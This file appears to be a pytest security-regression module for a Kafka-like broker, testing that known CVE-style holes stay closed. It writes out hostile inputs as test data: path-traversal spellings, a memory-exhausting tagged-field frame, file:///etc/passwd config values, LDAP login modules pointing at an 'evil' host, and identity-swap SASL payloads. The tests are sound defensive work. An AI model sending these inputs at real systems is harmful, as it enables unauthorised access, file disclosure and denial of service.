"""Holes that brokers and clients of others had, tried on Penstock.

docs/internals/known-holes.md lists them all; most have tests beside the code that closes them. This
file tests the holes that concern several parts, and that each test named on the page exists.
"""

import ast
import hmac
import re
import struct
from collections.abc import Iterator
from pathlib import Path

import pytest

from penstock.broker.handlers import HANDLERS
from penstock.client.security.options import parse_security
from penstock.core.errors import ConfigError, PeerError
from penstock.core.limits import TAGGED_FIELDS_MAX
from penstock.protocol import codec
from penstock.protocol.api_keys import ApiKey
from penstock.protocol.error_codes import ErrorCode
from penstock.protocol.messages.api_versions import ApiVersionsRequest
from penstock.protocol.messages.incremental_alter_configs import (
    AlterableConfig,
    AlterConfigsResource,
    IncrementalAlterConfigsRequest,
    IncrementalAlterConfigsResponse,
)
from penstock.protocol.messages.sasl_authenticate import SaslAuthenticateResponse
from penstock.security.acls.authorizer import AclAuthorizer, RuleOrigin
from penstock.security.acls.values import (
    AclBinding,
    Operation,
    PatternType,
    Permission,
    ResourceType,
)
from penstock.security.certificates.distinguished_name import distinguished_name
from penstock.security.principal import user
from penstock.security.sasl import password_file
from penstock.security.sasl.exchange_actions import Answer, Established
from penstock.security.sasl.mechanism_logins import VerifiedToken
from penstock.security.sasl_client import ScramClient
from penstock.security.secret import Secret
from penstock.testing import Broker
from tests.admin.fakes import FakeCheck, ask
from tests.broker.handlers.asker import Asker
from tests.oracle.secured_kafka import OAUTHBEARER, PASSWORDS, PLAIN, SCRAM_256, USER
from tests.security.certificates.certificate_samples import UTF8, certificate_of, subject_of
from tests.security.sasl.exchange_wire import CREDENTIALS
from tests.security.sasl.test_exchange import NOW, authenticate, chosen, kinds

ROOT = Path(__file__).resolve().parents[2]
PAGE = (ROOT / "docs/internals/known-holes.md").read_text()

# --- CVE-2021-38153: comparisons whose time depends on the secret ---

CHECKED = (
    "admin",
    "broker/connections",
    "cli/user",
    "client/security",
    "client/transport",
    "cluster/access",
    "node/security",
    "security",
)
SECRET_NAME = re.compile(
    r"(password|secret|digest|(stored|server|client)_key|salted|proof|signature|token|reveal)s?$"
)
HARMLESS = {
    "token == ACKNOWLEDGEMENT",  # of a login that has failed already
    "':' in client_id.reveal()",
    "'\\x00' in value.reveal()",
    "store.password != password",  # two `Secret`s
}


def compared_secrets(source: str) -> Iterator[str]:
    """Comparisons by `==`, `!=` or `in` of values that are named like secrets."""

    def name(node: ast.expr) -> str:
        match node:
            case ast.Call(func=function):
                return name(function)
            case ast.Attribute(attr=found) | ast.Name(id=found):
                return found
        return ""

    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Compare):
            named = [name(one) for one in (node.left, *node.comparators)]
            by_value = (ast.Eq, ast.NotEq, ast.In, ast.NotIn)
            if any(isinstance(one, by_value) for one in node.ops) and any(
                SECRET_NAME.search(one) for one in named
            ):
                yield ast.unparse(node)


@pytest.mark.parametrize("package", CHECKED)
def test_secrets_are_compared_in_constant_time(package: str) -> None:
    """CVE-2021-38153."""
    files = sorted((ROOT / "src/penstock" / package).rglob("*.py"))
    assert files
    found = {one for path in files for one in compared_secrets(path.read_text())}
    assert found <= HARMLESS


def test_a_comparison_of_secrets_is_found() -> None:
    source = "if stored.digest == found.digest or given in self.tokens or a is password: pass"
    assert list(compared_secrets(source)) == [
        "stored.digest == found.digest",
        "given in self.tokens",
    ]


def test_each_verification_compares_in_constant_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """CVE-2021-38153."""
    compared: list[object] = []
    real = hmac.compare_digest

    def note(first: bytes, second: bytes) -> bool:
        compared.append(first)
        return real(first, second)

    monkeypatch.setattr(hmac, "compare_digest", note)
    stored = password_file.hash_password(Secret("right"), bytes(16))
    assert not password_file.password_matches(stored, Secret("wrong"))
    assert len(compared) == 1
    assert Secret("right") != Secret("wrong")
    assert len(compared) == 2
    server = chosen(SCRAM_256)
    client = ScramClient(SCRAM_256, USER, Secret(PASSWORDS[SCRAM_256][USER]), "own")
    server.receive_request(authenticate(client.first()), NOW)
    challenge = server.scram_found(CREDENTIALS[SCRAM_256, USER], "nonce", NOW)[0]
    assert isinstance(challenge, Answer)
    assert isinstance(challenge.message, SaslAuthenticateResponse)
    final = client.respond(challenge.message.auth_bytes)
    assert final is not None
    assert Established in kinds(server.receive_request(authenticate(final), NOW))
    assert len(compared) == 3


# --- CVE-2017-12610, NATS CVE-2022-24450: an identity that the client chooses ---


def test_a_proven_identity_cannot_be_exchanged_at_the_login() -> None:
    """CVE-2017-12610: right credentials, and the name of another user beside them."""
    plain = chosen(PLAIN)
    plain.receive_request(authenticate(b"admin\0alice\0secret"), NOW)
    bearer = chosen(OAUTHBEARER)
    bearer.receive_request(authenticate(b"n,a=admin,\x01auth=Bearer a.b.c\x01\x01"), NOW)
    scram = chosen(SCRAM_256)
    for actions in (
        plain.password_verified("alice", NOW),
        bearer.token_verified(VerifiedToken("alice", 60), NOW),
        scram.receive_request(authenticate(b"n,a=admin,n=alice,r=nonce"), NOW),
    ):
        assert Established not in kinds(actions)
        (answer,) = [one.message for one in actions if isinstance(one, Answer)]
        assert answer.error_code == ErrorCode.SASL_AUTHENTICATION_FAILED


def test_no_api_carries_the_identity_of_another_client() -> None:
    """CVE-2022-24450 of NATS: Kafka's Envelope has the principal of the client it speaks for."""
    assert ApiKey.ENVELOPE not in HANDLERS


@pytest.mark.parametrize(
    "header", ["X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Forwarded-For", "Forwarded"]
)
def test_no_header_of_a_proxy_is_an_identity(header: str) -> None:
    """CVE-2022-24450 of NATS, on the admin port."""
    check = FakeCheck(authorization="Basic YWxpY2U6c2VjcmV0")
    assert ask("GET", "/metrics", headers={header: "admin"}, check=check).status == 401


# --- Cruise Control CVE-2026-105949: another spelling of a path ---


@pytest.mark.parametrize(
    "path",
    [
        "/health/../metrics",
        "/health/%2e%2e/metrics",
        "/health/..%2fmetrics",
        "/health/live/../../metrics",
        "/health/ready/metrics",
        "//metrics",
        "/metrics/",
        "/metrics/x",
        "/METRICS",
        "/metrics;x",
        "/x/metrics",
        "/api/v1//status",
        "/api/v1/status/",
        "/api/v1/x/../status",
        "/kafka/api/v1/status",
    ],
)
def test_no_spelling_of_a_path_goes_around_the_check(path: str) -> None:
    """CVE-2026-105949 of Cruise Control."""
    check = FakeCheck(authorization="Basic YWxpY2U6c2VjcmV0")
    assert ask("GET", path, check=check).status in {401, 404}


# --- CVE-2022-34917, CVE-2026-111108, CVE-2026-111115: memory for a few bytes ---


def test_a_small_request_does_not_become_large() -> None:
    """Counts of arrays and of tagged fields are bounded before anything is created for them."""
    good = codec.encode_request(
        ApiVersionsRequest(client_software_name="c", client_software_version="1"), 4
    )
    assert good[-1:] == b"\0"
    # 65,536 unknown tagged fields without content, in three bytes each.
    tags = b"".join(struct.pack("BB", 0x80 | number, 1) + b"\0" for number in range(100))
    with pytest.raises(PeerError, match="tagged fields"):
        codec.decode_request(ApiKey.API_VERSIONS, 4, good[:-1] + b"\x80\x80\x04" + tags * 700)
    few = b"".join(bytes([number, 0]) for number in range(2, 2 + 8))
    decoded = codec.decode_request(ApiKey.API_VERSIONS, 4, good[:-1] + b"\x08" + few)
    assert decoded == codec.decode_request(ApiKey.API_VERSIONS, 4, good)
    assert TAGGED_FIELDS_MAX <= 1_000


def test_nothing_is_decompressed_for_telemetry() -> None:
    """CVE-2026-111073: a small payload of PushTelemetry was decompressed without a bound."""
    assert ApiKey.PUSH_TELEMETRY not in HANDLERS
    assert ApiKey.GET_TELEMETRY_SUBSCRIPTIONS not in HANDLERS


# --- CVE-2025-27817, -27818, -27819, CVE-2023-25194: settings from others ---


@pytest.mark.parametrize(
    "name",
    [
        "sasl.jaas.config",
        "listener.name.clients.plain.sasl.jaas.config",
        "sasl.oauthbearer.token.endpoint.url",
        "sasl.oauthbearer.jwks.endpoint.url",
        "listener.name.clients.oauthbearer.sasl.server.callback.handler.class",
        "sasl.server.callback.handler.class",
        "principal.builder.class",
        "authorizer.class.name",
        "super.users",
        "allow.everyone.if.no.acl.found",
        "ssl.keystore.location",
        "ssl.truststore.location",
        "config.providers",
        "security.super_users",
        "oidc.jwks",
    ],
)
def test_no_client_changes_the_security_of_a_broker(name: str, broker: Broker) -> None:
    """CVE-2025-27819: an authenticated client changed the login module of a broker."""
    config = AlterableConfig(name=name, config_operation=0, value="file:///etc/passwd")
    with Asker(broker.port) as asker:
        for broker_name in ("", "1"):
            resource = AlterConfigsResource(
                resource_type=4, resource_name=broker_name, configs=(config,)
            )
            request = IncrementalAlterConfigsRequest(resources=(resource,), validate_only=False)
            (found,) = asker.ask(request, 1, IncrementalAlterConfigsResponse).responses
            assert found.error_code != ErrorCode.NONE


@pytest.fixture(scope="module")
def broker() -> Iterator[Broker]:
    with Broker() as running:
        yield running


@pytest.mark.parametrize(
    "module",
    [
        "com.sun.security.auth.module.JndiLoginModule",
        "com.sun.security.auth.module.LdapLoginModule",
        "com.sun.security.auth.module.KeyStoreLoginModule",
        "org.apache.kafka.common.security.plain.PlainLoginModuleX",
        "evil.org.apache.kafka.common.security.plain.PlainLoginModule",
    ],
)
def test_other_login_modules_are_refused(module: str) -> None:
    """CVE-2023-25194, CVE-2025-27818: a login module that connects to a server of the attacker."""
    options = 'user.provider.url="ldap://evil" useFirstPass="true"'
    settings = {"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN"}
    with pytest.raises(ConfigError, match=r"sasl\.jaas\.config"):
        parse_security({**settings, "sasl.jaas.config": f"{module} required {options};"})


def test_values_are_not_expanded() -> None:
    """CVE-2024-31141: `${file:...}` and `${env:...}` in settings of a client."""
    text = "${file:/etc/passwd:root} ${env:HOME}"
    settings = {"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN"}
    found = parse_security({**settings, "sasl.username": "u", "sasl.password": text})
    assert found.sasl is not None
    assert found.sasl.password is not None
    assert found.sasl.password.reveal() == text


# --- CVE-2024-27309: rules of one resource that get lost ---


def test_deleting_one_rule_keeps_the_others() -> None:
    """CVE-2024-27309: after a deletion, one rule of several was in force, and denials were lost."""

    def rule(number: int, permission: Permission) -> AclBinding:
        name = f"User:u{number}"
        return AclBinding(
            ResourceType.TOPIC, "t", PatternType.LITERAL, name, "*", Operation.READ, permission
        )

    rules = [rule(number, Permission.ALLOW) for number in range(3)]
    denials = [rule(number, Permission.DENY) for number in range(2)]
    authorizer = AclAuthorizer(frozenset())
    authorizer.replace(RuleOrigin.API, [*rules, *denials])
    authorizer.replace(RuleOrigin.API, [*rules, *denials[1:]])
    allowed = [
        authorizer.allows(user(f"u{number}"), "h", Operation.READ, ResourceType.TOPIC, "t")
        for number in range(3)
    ]
    assert allowed == [True, False, True]


# --- NATS CVE-2026-33248: subjects that are compared part by part ---

CN, OU, ORGANISATION = "2.5.4.3", "2.5.4.11", "2.5.4.10"


def name_of(*parts: tuple[tuple[str, str], ...]) -> str:
    attributes = [[(kind, UTF8, text.encode()) for kind, text in part] for part in parts]
    return distinguished_name(certificate_of(subject_of(attributes)))


def test_different_subjects_are_different_principals() -> None:
    """CVE-2026-33248 of NATS: order, repeated and joined parts all count."""
    subjects = [
        (((ORGANISATION, "Example"),), ((OU, "ops"),), ((CN, "alice"),)),
        (((OU, "ops"),), ((ORGANISATION, "Example"),), ((CN, "alice"),)),
        (((ORGANISATION, "Example"),), ((OU, "ops"), (CN, "alice"))),
        (((ORGANISATION, "Example"),), ((CN, "alice"), (OU, "ops"))),
        (((ORGANISATION, "Example"),), ((OU, "ops"),), ((CN, "alice"),), ((CN, "alice"),)),
        (((ORGANISATION, "Example"),), ((OU, "ops"),), ((OU, "ops"),), ((CN, "alice"),)),
        (((ORGANISATION, "Example"),), ((CN, "alice"),)),
        (((ORGANISATION, "Example"),), ((CN, "alice,OU=ops"),)),
        (((ORGANISATION, "Example"),), ((CN, "alice+OU=ops"),)),
        (((ORGANISATION, "Example"),), ((OU, "ops"),), ((CN, "Alice"),)),
        (((ORGANISATION, "Example"),), ((OU, "ops"),), ((CN, "alice "),)),
        (((ORGANISATION, "Example"),), ((OU, "ops"),), ((CN, " alice"),)),
        (((ORGANISATION, "Example"),), ((OU, "ops"),), ((CN, "alice"),), ((OU, ""),)),
        (((ORGANISATION, "Example,OU=ops"),), ((CN, "alice"),)),
    ]
    names = [name_of(*subject) for subject in subjects]
    assert len(set(names)) == len(subjects)
    assert names[0] == "CN=alice,OU=ops,O=Example"


# --- The page ---


def test_each_test_of_the_page_exists() -> None:
    named = re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", PAGE)
    assert len(named) > 20
    for file, test in named:
        source = (ROOT / file).read_text()
        assert re.search(rf"^(async )?def {test}\(", source, re.MULTILINE), f"{file}::{test}"


def test_each_hole_in_the_code_is_on_the_page() -> None:
    found = set()
    for folder in ("src", "tests"):
        for path in (ROOT / folder).rglob("*.py"):
            found |= set(re.findall(r"CVE-\d{4}-\d{4,}", path.read_text()))
    assert found <= set(re.findall(r"CVE-\d{4}-\d{4,}", PAGE))
